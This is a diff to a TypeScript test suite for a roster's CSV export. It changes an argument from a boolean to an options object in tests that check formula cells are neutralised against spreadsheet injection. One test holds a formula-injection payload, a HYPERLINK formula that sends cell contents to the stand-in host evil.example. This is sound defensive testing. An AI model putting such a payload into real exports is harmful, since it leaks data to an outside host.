@@ -29,21 +29,21 @@ const rosters = fc.array(fc.record({ email: texts, name: texts, vote: texts, que
 const rowWith = (name: string): RosterRow => ({ email: '', name, vote: '', questions: '' })
 const withoutApostrophes = (cell = '') => cell.replaceAll("'", '')
 /** The name in the one row of a roster as it is read back from CSV. */
-const nameReadBack = (name: string) => readCsv(rosterCsv([rowWith(name)], false))[1]?.[1]
+const nameReadBack = (name: string) => readCsv(rosterCsv([rowWith(name)], {}))[1]?.[1]
 
 describe('the CSV export of a roster', () => {
   it('begins with a header row, and has one row per participant', () => {
     const roster = [{ email: 'zoe@example.org', name: 'Zoe', vote: 'Day?: Monday', questions: '' }]
-    expect(rosterCsv(roster, false)).toBe(
+    expect(rosterCsv(roster, {})).toBe(
       '"email","name","vote","questions"\r\n"zoe@example.org","Zoe","Day?: Monday",""\r\n',
     )
-    expect(rosterCsv([], false)).toBe('"email","name","vote","questions"\r\n')
+    expect(rosterCsv([], {})).toBe('"email","name","vote","questions"\r\n')
   })
 
   it('is read back as it was, but for the apostrophes before formulas', () => {
     fc.assert(
       fc.property(rosters, (roster) => {
-        const [header, ...records] = readCsv(rosterCsv(roster, false))
+        const [header, ...records] = readCsv(rosterCsv(roster, {}))
         expect(header).toEqual(HEADER)
         expect(records).toHaveLength(roster.length)
         for (const [place, { email, name, vote, questions }] of roster.entries()) {
@@ -88,14 +88,14 @@ describe('the CSV export of a roster', () => {
   it('makes text of a formula in every column', () => {
     const bomb = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     const row = { email: bomb, name: bomb, vote: bomb, questions: bomb }
-    const [, cells] = readCsv(rosterCsv([row], false))
+    const [, cells] = readCsv(rosterCsv([row], {}))
     expect(cells).toEqual(Array.from({ length: 4 }, () => `'${bomb}`))
   })
 
   it('never lets a cell begin like a formula', () => {
     fc.assert(
       fc.property(rosters, (roster) => {
-        for (const cell of readCsv(rosterCsv(roster, false)).flat()) {
+        for (const cell of readCsv(rosterCsv(roster, {})).flat()) {
           expect(cell.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/u)
           expect(cell).not.toMatch(/^[\t\r]/)
         }
@@ -106,7 +106,7 @@ describe('the CSV export of a roster', () => {
   it('never lets a part of a cell do so, whichever sign a spreadsheet splits at', () => {
     fc.assert(
       fc.property(rosters, (roster) => {
-        for (const part of rosterCsv(roster, false).split(/[;,\t\r\n]/))
+        for (const part of rosterCsv(roster, {}).split(/[;,\t\r\n]/))
           expect(part.replace(/^[\s"]+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/u)
       }),
       { numRuns: 500 },
@@ -130,7 +130,7 @@ describe('the CSV export of a roster', () => {
         .flatMap((sheet) => Object.values(sheet))
         .filter(({ f }) => f !== undefined)
     expect(formulas(`name${FS}vote\r\nx${FS}=1+1\r\n`)).toHaveLength(1)
-    expect(formulas(rosterCsv(bombs.map(rowWith), false))).toEqual([])
+    expect(formulas(rosterCsv(bombs.map(rowWith), {}))).toEqual([])
   })
 
   it('leaves alone what has such a sign further on', () => {
@@ -142,8 +142,8 @@ describe('the CSV export of a roster', () => {
   it('for Excel differs by the byte-order mark at its beginning alone', () => {
     fc.assert(
       fc.property(rosters, (roster) => {
-        expect(rosterCsv(roster, true)).toBe(`\uFEFF${rosterCsv(roster, false)}`)
-        expect(rosterCsv(roster, false).startsWith('"email"')).toBe(true)
+        expect(rosterCsv(roster, { excel: '1' })).toBe(`\uFEFF${rosterCsv(roster, {})}`)
+        expect(rosterCsv(roster, {}).startsWith('"email"')).toBe(true)
       }),
     )
   })
